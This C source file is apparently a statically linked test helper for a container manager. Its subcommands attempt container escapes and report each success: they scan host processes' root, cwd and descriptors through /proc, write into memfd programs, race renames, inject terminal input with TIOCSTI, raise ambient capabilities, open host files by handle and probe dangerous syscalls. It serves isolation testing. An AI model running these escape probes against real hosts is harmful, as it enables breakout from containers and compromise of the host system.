/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * attack: what an enemy inside a container does and a shell cannot.  Linked statically, it runs in any
 * root filesystem.  Each prints what it won, one line each, and nothing when it won nothing.
 *
 *	attack watch SECONDS MARKER     looks at every process that appears: its files, root, program
 *	attack swap A B SECONDS         exchanges two names as fast as it can
 *	attack tiocsti TEXT             types at its terminal for whoever reads it outside
 *	attack inherit CAPABILITY CMD   runs CMD with a capability inheritable and ambient
 *	attack connect FD NAME UID      as user UID: talks to the socket NAME below descriptor FD
 *	attack up MARKER                walks up from its working directory, and tries all descriptors
 *	attack handles                  opens files of the host by handle
 *	attack fds                      lists its descriptors
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void won(const char *what, const char *where)
{
	printf("won: %s %s\n", what, where);
	fflush(stdout);
}

/* ---- watch ---- */

/* MARKER is a file that only the host has. */
static void look_through(const char *process, const char *door, const char *marker)
{
	char path[512];

	snprintf(path, sizeof(path), "%s/%s/%s", process, door, marker);
	if (access(path, F_OK) == 0)
		won("the host's tree through", path);
}

/* The program: is it a file that can be changed?  What is sealed in memory cannot. */
static void look_at_program(const char *process)
{
	char path[300], target[300];
	struct stat st;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "%s/exe", process);
	n = readlink(path, target, sizeof(target) - 1);
	if (n <= 0)
		return;
	target[n] = '\0';
	if (strncmp(target, "/memfd:", 7) == 0) {
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 && write(fd, "x", 1) == 1)
			won("a write into", target);
		if (fd >= 0)
			close(fd);
		return;
	}
	/* A program that is not in our tree. */
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd >= 0 && fstat(fd, &st) == 0) {
		struct stat own;

		if (stat(target, &own) < 0 || own.st_ino != st.st_ino || own.st_dev != st.st_dev)
			won("a program of the host:", target);
	}
	if (fd >= 0)
		close(fd);
}

static void look_at_descriptors(const char *process, const char *marker)
{
	char dir[300], door[300];
	struct dirent *e;
	DIR *d;

	snprintf(dir, sizeof(dir), "%s/fd", process);
	d = opendir(dir);
	while (d && (e = readdir(d))) {
		snprintf(door, sizeof(door), "fd/%s", e->d_name);
		look_through(process, door, marker);
		/* A directory of the host, or a procfs that shows its processes. */
		snprintf(door, sizeof(door), "fd/%s/1/root", e->d_name);
		look_through(process, door, marker);
	}
	if (d)
		closedir(d);
}

static void look(long pid, const char *marker)
{
	char process[64];

	snprintf(process, sizeof(process), "/proc/%ld", pid);
	look_at_program(process);
	look_through(process, "root", marker);
	look_through(process, "cwd", marker);
	look_at_descriptors(process, marker);
}

static void watch(double seconds, const char *marker)
{
	double end = now() + seconds;
	long self = getpid();

	while (now() < end) {
		/* New ones come after us: guess their pids rather than read the directory. */
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d))) {
			long pid = strtol(e->d_name, NULL, 10);

			if (pid > self)
				look(pid, marker);
		}
		if (d)
			closedir(d);
	}
}

/* ---- the others ---- */

static void swap(const char *a, const char *b, double seconds)
{
	double end = now() + seconds;

	while (now() < end)
		for (int i = 0; i < 1000; i++)
			syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

static void type(const char *text)
{
	int fd = open("/dev/tty", O_RDWR);

	if (fd < 0)
		fd = 0;
	for (; *text; text++)
		if (ioctl(fd, TIOCSTI, text) < 0)
			perror("attack: TIOCSTI");
	ioctl(fd, TIOCSTI, "\n");
}

static void inherit(int cap, char **command)
{
	struct __user_cap_header_struct head = {.version = _LINUX_CAPABILITY_VERSION_3};
	struct __user_cap_data_struct data[2];

	if (syscall(SYS_capget, &head, data) < 0)
		perror("attack: capget");
	data[cap / 32].inheritable |= 1u << cap % 32;
	if (syscall(SYS_capset, &head, data) < 0)
		perror("attack: capset");
	if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, cap, 0, 0) < 0)
		perror("attack: ambient");
	execvp(command[0], command);
	perror("attack: exec");
}

static void talk(int dir, const char *name, unsigned uid)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int sock = socket(AF_UNIX, SOCK_SEQPACKET, 0);
	int request[5] = {2, 0, 0, -1, 0}; /* struct control_request: the history of its console */
	char answer[64];
	struct timeval limit = {.tv_sec = 5};

	snprintf(a.sun_path, sizeof(a.sun_path), "/proc/self/fd/%d/%s", dir, name);
	setsockopt(sock, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
	if (uid && (setgid(uid) < 0 || setuid(uid) < 0))
		perror("attack: setuid");
	if (connect(sock, (void *)&a, sizeof(a)) < 0) {
		fprintf(stderr, "attack: connect: %s\n", strerror(errno));
		return;
	}
	if (send(sock, request, sizeof(request), MSG_NOSIGNAL) > 0 &&
	    recv(sock, answer, sizeof(answer), 0) > 0)
		won("an answer of", name);
}

static void up(const char *marker)
{
	char path[4096] = "", entry[400], buffer[4096];

	for (int i = 0; i < 40; i++)
		strcat(path, "../");
	strcat(path, marker[0] == '/' ? marker + 1 : marker);
	if (access(path, F_OK) == 0)
		won("the host's tree above", getcwd(buffer, sizeof(buffer)) ? buffer : "here");
	for (int fd = 0; fd < 256; fd++) {
		snprintf(entry, sizeof(entry), "/proc/self/fd/%d/%s", fd, path);
		if (access(entry, F_OK) == 0)
			won("the host's tree through", entry);
	}
}

static void handles(void)
{
	struct {
		struct file_handle h;
		unsigned char bytes[128];
	} root = {.h = {.handle_bytes = 8, .handle_type = 1}};
	int fd = open("/", O_RDONLY | O_DIRECTORY), found;

	/* Inode 2 is the root directory of ext filesystems. */
	*(unsigned *)root.h.f_handle = 2;
	found = open_by_handle_at(fd, &root.h, O_RDONLY);
	if (found >= 0)
		won("a file by its handle", "");
	else
		printf("refused: %s\n", strerror(errno));
}

static void list_descriptors(void)
{
	char path[64], target[512];

	for (int fd = 0; fd < 1024; fd++) {
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, target, sizeof(target) - 1);
		if (n < 0)
			continue;
		target[n] = '\0';
		printf("%d %s\n", fd, target);
	}
}

/*
 * Each call with arguments that a kernel which gets to see them refuses for what they are; what it says
 * instead when a filter is in between is the filter's word.  Prints 'NAME ERRNO'.
 */
static void calls(void)
{
	static const struct {
		const char *name;
		long number, args[5];
	} list[] = {
		{"kexec_load", 246, {0, -1, 0, -1}}, {"kexec_file_load", 320, {-1, -1, 0, 0, -1}},
		{"init_module", 175, {0, 0, 0}}, {"finit_module", 313, {-1, 0, -1}},
		{"delete_module", 176, {0, 0}}, {"open_by_handle_at", 304, {-1, 0, 0}},
		{"fanotify_init", 300, {-1, 0}}, {"swapon", 167, {0, 0}}, {"swapoff", 168, {0}},
		{"quotactl", 179, {-1, 0, 0, 0}}, {"quotactl_fd", 443, {-1, -1, 0, 0}},
		{"bpf", 321, {-1, 0, 0}}, {"perf_event_open", 298, {0, 0, 0, 0, 0}},
		{"userfaultfd", 323, {-1}}, {"add_key", 248, {0, 0, 0, 0, 0}},
		{"request_key", 249, {0, 0, 0, 0}}, {"keyctl", 250, {0x7777, 0, 0, 0, 0}},
		{"io_uring_setup", 425, {0, 0}}, {"io_uring_enter", 426, {-1, 0, 0, 0}},
		{"io_uring_register", 427, {-1, 0, 0, 0}}, {"vsock", 41, {40, 1, 0}},
		{"clone3", 435, {0, 0}}, {"open_tree", 428, {-1, 0, 0}}, {"fsopen", 430, {0, 0}},
		{"move_mount", 429, {-1, 0, -1, 0, -1}}, {"mount_setattr", 442, {-1, 0, 0, 0, 0}},
		{"pidfd_getfd", 438, {-1, 0, 0}}, {"process_madvise", 440, {-1, 0, 0, 0, -1}},
		{"landlock_restrict_self", 446, {-1, -1}}, {"name_to_handle_at", 303, {-1, 0, 0, 0}},
		{"setns", 308, {-1, 0}}, {"unix", 41, {1, 77, 0}},
	};

	for (size_t i = 0; i < sizeof(list) / sizeof(list[0]); i++) {
		const long *a = list[i].args;
		long result;

		errno = 0;
		result = syscall(list[i].number, a[0], a[1], a[2], a[3], a[4]);
		printf("%s %d\n", list[i].name, result < 0 ? errno : 0);
	}
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (strcmp(what, "watch") == 0 && argc == 4)
		watch(atof(argv[2]), argv[3]);
	else if (strcmp(what, "swap") == 0 && argc == 5)
		swap(argv[2], argv[3], atof(argv[4]));
	else if (strcmp(what, "tiocsti") == 0 && argc == 3)
		type(argv[2]);
	else if (strcmp(what, "inherit") == 0 && argc > 3)
		inherit(atoi(argv[2]), argv + 3);
	else if (strcmp(what, "connect") == 0 && argc == 5)
		talk(atoi(argv[2]), argv[3], (unsigned)atoi(argv[4]));
	else if (strcmp(what, "up") == 0 && argc == 3)
		up(argv[2]);
	else if (strcmp(what, "handles") == 0)
		handles();
	else if (strcmp(what, "calls") == 0)
		calls();
	else if (strcmp(what, "fds") == 0)
		list_descriptors();
	else
		return 2;
	return 0;
}
